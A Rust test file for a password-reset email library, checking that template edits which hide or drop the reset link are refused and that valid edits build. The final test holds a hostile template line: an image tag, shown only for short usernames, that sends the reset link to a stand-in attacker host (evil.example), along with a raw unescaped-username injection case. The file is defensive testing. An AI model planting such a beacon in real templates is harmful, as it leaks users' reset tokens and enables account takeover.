//! Item 4 of issue 13: a catalogue of template edits that lose the reset
//! link. This is how the product began: an operator edits the email and the
//! link is gone. Each edit below must be refused when the service is built,
//! naming the template part; the edits after them keep the link and build.

use crate::common;

use common::Fixture;
use resetkit::error::BuildError;
use resetkit::template::{LocaleTemplates, Templates};

const HTML_HEAD: &str = "<!doctype html><html><body>";
const HTML_TAIL: &str = "</body></html>";
const GOOD_TEXT: &str = "Hello {{ username }},\n\n{{ link }}\n\nNot you?\n{{ deny_link }}\n";

/// The reset email's HTML body with `body` in place of the link paragraph;
/// the "this wasn't me" link stays as shipped.
fn html_with(body: &str) -> String {
    format!(
        "{HTML_HEAD}<p>Hello {{{{ username }}}},</p>{body}<p><a href=\"{{{{ deny_link }}}}\">This wasn't me</a></p>{HTML_TAIL}"
    )
}

fn build(edit: impl FnOnce(&mut LocaleTemplates)) -> Result<(), BuildError> {
    let mut templates = Templates::english();
    edit(templates.locale_mut("en"));
    Fixture::default()
        .builder()
        .templates(templates)
        .build()
        .map(|_| ())
}

#[track_caller]
fn refused(what: &str, part: &str, edit: impl FnOnce(&mut LocaleTemplates)) {
    match build(edit) {
        Err(BuildError::Template {
            template,
            locale,
            reason,
        }) => {
            assert_eq!(template, part, "{what}: wrong part named ({reason})");
            assert_eq!(locale, "en", "{what}");
        }
        Err(other) => panic!("{what}: expected a template error, got {other}"),
        Ok(()) => panic!("{what}: the edit loses the link but the service was built"),
    }
}

#[track_caller]
fn accepted(what: &str, edit: impl FnOnce(&mut LocaleTemplates)) {
    if let Err(e) = build(edit) {
        panic!("{what}: keeps the link but was refused: {e}");
    }
}

#[test]
fn item4_link_only_inside_an_html_comment_is_refused() {
    refused("link commented out", "reset.html", |t| {
        t.reset.html = html_with("<!-- <p><a href=\"{{ link }}\">Choose a new password</a></p> -->");
    });
    refused(
        "link commented out with a conditional comment",
        "reset.html",
        |t| {
            t.reset.html =
                html_with("<!--[if mso]><a href=\"{{ link }}\">Choose a new password</a><![endif]-->");
        },
    );
}

#[test]
fn item4_link_shown_only_for_the_sample_account_is_refused() {
    refused(
        "link only for the build-time sample username",
        "reset.html",
        |t| {
            t.reset.html = html_with(
                "{% if username == \"sample-user-a\" %}<a href=\"{{ link }}\">Reset</a>{% endif %}",
            );
        },
    );
    refused(
        "text link only for the build-time sample username",
        "reset.text",
        |t| {
            t.reset.text =
                "{% if username == \"sample-user-a\" %}{{ link }}{% endif %}\n{{ deny_link }}\n".into();
        },
    );
    refused("link only for short usernames", "reset.html", |t| {
        t.reset.html = html_with("{% if username|length < 30 %}<a href=\"{{ link }}\">Reset</a>{% endif %}");
    });
    refused("link only for the sample site name", "reset.html", |t| {
        t.reset.html =
            html_with("{% if site_name == \"Sample Site\" %}<a href=\"{{ link }}\">Reset</a>{% endif %}");
    });
}

#[test]
fn item4_catalogue_of_html_edits_that_lose_the_link() {
    let catalogue: [(&str, &str); 10] = [
        ("link removed", "<p>Use the link in the text version.</p>"),
        ("link printed as text, not a link", "<p>{{ link }}</p>"),
        (
            "link moved into a title attribute",
            "<p title=\"{{ link }}\">Hover here</p>",
        ),
        (
            "link as an image source",
            "<img src=\"{{ link }}\" alt=\"Reset\">",
        ),
        (
            "anchor with nothing to click",
            "<p><a href=\"{{ link }}\"></a></p>",
        ),
        (
            "anchor hidden with display:none",
            "<p style=\"display: none\"><a href=\"{{ link }}\">Reset</a></p>",
        ),
        (
            "anchor hidden with the hidden attribute",
            "<div hidden><a href=\"{{ link }}\">Reset</a></div>",
        ),
        (
            "href typo glues text onto the URL",
            "<a href=\"{{ link }}.\">Reset</a>",
        ),
        (
            "href filtered (upper-cased)",
            "<a href=\"{{ link | upper }}\">Reset</a>",
        ),
        (
            "link inside a template element",
            "<template><a href=\"{{ link }}\">Reset</a></template>",
        ),
    ];
    for (what, body) in catalogue {
        refused(what, "reset.html", |t| t.reset.html = html_with(body));
    }
    refused(
        "username printed raw opens a comment that swallows the link",
        "reset.html",
        |t| {
            t.reset.html = format!(
                "{HTML_HEAD}<p>Hello {{{{ username | safe }}}},</p><p><a href=\"{{{{ link }}}}\">Reset</a></p>\
             <p><a href=\"{{{{ deny_link }}}}\">Not me</a></p>{HTML_TAIL}"
            );
        },
    );
    refused("link in the head only", "reset.html", |t| {
        t.reset.html =
            "<html><head><link rel=\"alternate\" href=\"{{ link }}\"><title>{{ link }}</title></head>\
                        <body><a href=\"{{ deny_link }}\">Not me</a></body></html>"
                .into();
    });
}

#[test]
fn item4_catalogue_of_text_edits_that_lose_the_link() {
    let catalogue: [(&str, &str); 6] = [
        (
            "link removed",
            "Hello {{ username }}, use the button in the HTML version.\n{{ deny_link }}\n",
        ),
        (
            "link glued into a sentence",
            "Open {{ link }} to continue.\n{{ deny_link }}\n",
        ),
        ("link in angle brackets", "<{{ link }}>\n{{ deny_link }}\n"),
        ("link cut to 40 characters", "{{ link[:40] }}\n{{ deny_link }}\n"),
        (
            "greeting and link cut to 120 characters (long usernames push the link out)",
            "{{ ('Hello ' ~ username ~ '\\n' ~ link)[:120] }}\n{{ deny_link }}\n",
        ),
        (
            "link in a template comment",
            "{# {{ link }} #}\n{{ deny_link }}\n",
        ),
    ];
    for (what, text) in catalogue {
        refused(what, "reset.text", |t| t.reset.text = text.into());
    }
}

#[test]
fn item4_combined_and_notice_emails_are_linted_the_same_way() {
    refused(
        "combined email: links commented out",
        "reset_combined.html",
        |t| {
            t.reset_combined.html = "<ul>{% for a in accounts %}<li>{{ a.username }} \
             <!-- <a href=\"{{ a.link }}\">Reset</a> --> <a href=\"{{ a.deny_link }}\">Not me</a></li>{% endfor %}</ul>"
            .into();
        },
    );
    refused(
        "combined email: only the first account's link",
        "reset_combined.text",
        |t| {
            t.reset_combined.text =
                "{% for a in accounts[:1] %}{{ a.link }}\n{{ a.deny_link }}\n{% endfor %}".into();
        },
    );
    refused(
        "password-changed notice: link hidden",
        "password_changed.html",
        |t| {
            t.password_changed.html =
            "<p>Changed.</p><p style=\"visibility:hidden\"><a href=\"{{ security_link }}\">Secure</a></p>".into();
        },
    );
}

#[test]
fn item4_edits_that_keep_the_link_still_build() {
    accepted("restyled button in a table", |t| {
        t.reset.html = html_with(
            "<table role=\"presentation\"><tr><td style=\"background:#0a6; padding: 12px\">\
             <a href=\"{{ link }}\" style=\"color: white; display: inline-block\">Choose a new password</a></td></tr></table>",
        );
        t.reset.text = GOOD_TEXT.into();
    });
    accepted("single-quoted href, image link", |t| {
        t.reset.html =
            // An inline image: remote ones are refused (tracking beacons).
            html_with("<a href='{{ link }}'><img src=\"cid:reset-button@site\" alt=\"Reset\"></a>");
    });
    accepted("comment elsewhere, link outside it", |t| {
        t.reset.html = html_with("<!-- edited by ops --><p><a href=\"{{ link }}\">Reset</a></p>");
    });
    accepted("link indented in the text part", |t| {
        t.reset.text = "Hello {{ username }},\n\n    {{ link }}\n\nNot you?\n    {{ deny_link }}\n".into();
    });
}

/// The fourth review's follow-up: a template can act only for real mail —
/// a username shorter than every lint sample, three accounts on one
/// address — and pass the build. The same confinement is proved on every
/// reset email when it is sent: such a mail is not sent, and the refusal
/// is recorded against the account.
#[tokio::test]
async fn a_template_that_leaks_only_for_real_accounts_sends_nothing() {
    use resetkit::RequestContext;
    use resetkit::account::Account;
    use resetkit::event::EventKind;

    let mut templates = Templates::english();
    templates.locale_mut("en").reset.html = html_with(
        "<p><a href=\"{{ link }}\">Reset</a></p>\
         {% if username|length < 10 %}<img src=\"https://evil.example/u?{{ link }}\">{% endif %}",
    );
    let fx = Fixture::default();
    let service = fx
        .builder()
        .templates(templates)
        .build()
        .expect("the lint's samples are long names");
    fx.accounts
        .insert(Account::new("acct-bob", "bob", "bob@example.com"));
    service
        .request("bob", &RequestContext::default())
        .await
        .expect("accepted");
    assert!(fx.mailer.sent().is_empty(), "the leaking mail was sent");
    let failed: Vec<String> = fx
        .kinds()
        .into_iter()
        .filter_map(|k| match k {
            EventKind::DeliveryFailed { reason, .. } => Some(reason),
            _ => None,
        })
        .collect();
    assert_eq!(failed.len(), 1, "{:?}", fx.kinds());
    assert!(
        failed[0].contains("refused when sending") && failed[0].contains("reset.html"),
        "{}",
        failed[0]
    );
    assert!(
        !failed[0].contains("token="),
        "the reason names no token: {}",
        failed[0]
    );

    // The shipped templates still send, to short names too.
    let fx = Fixture::default();
    let service = fx.service();
    fx.accounts
        .insert(Account::new("acct-bob", "bob", "bob@example.com"));
    service
        .request("bob", &RequestContext::default())
        .await
        .expect("accepted");
    assert_eq!(fx.mailer.sent().len(), 1);
}
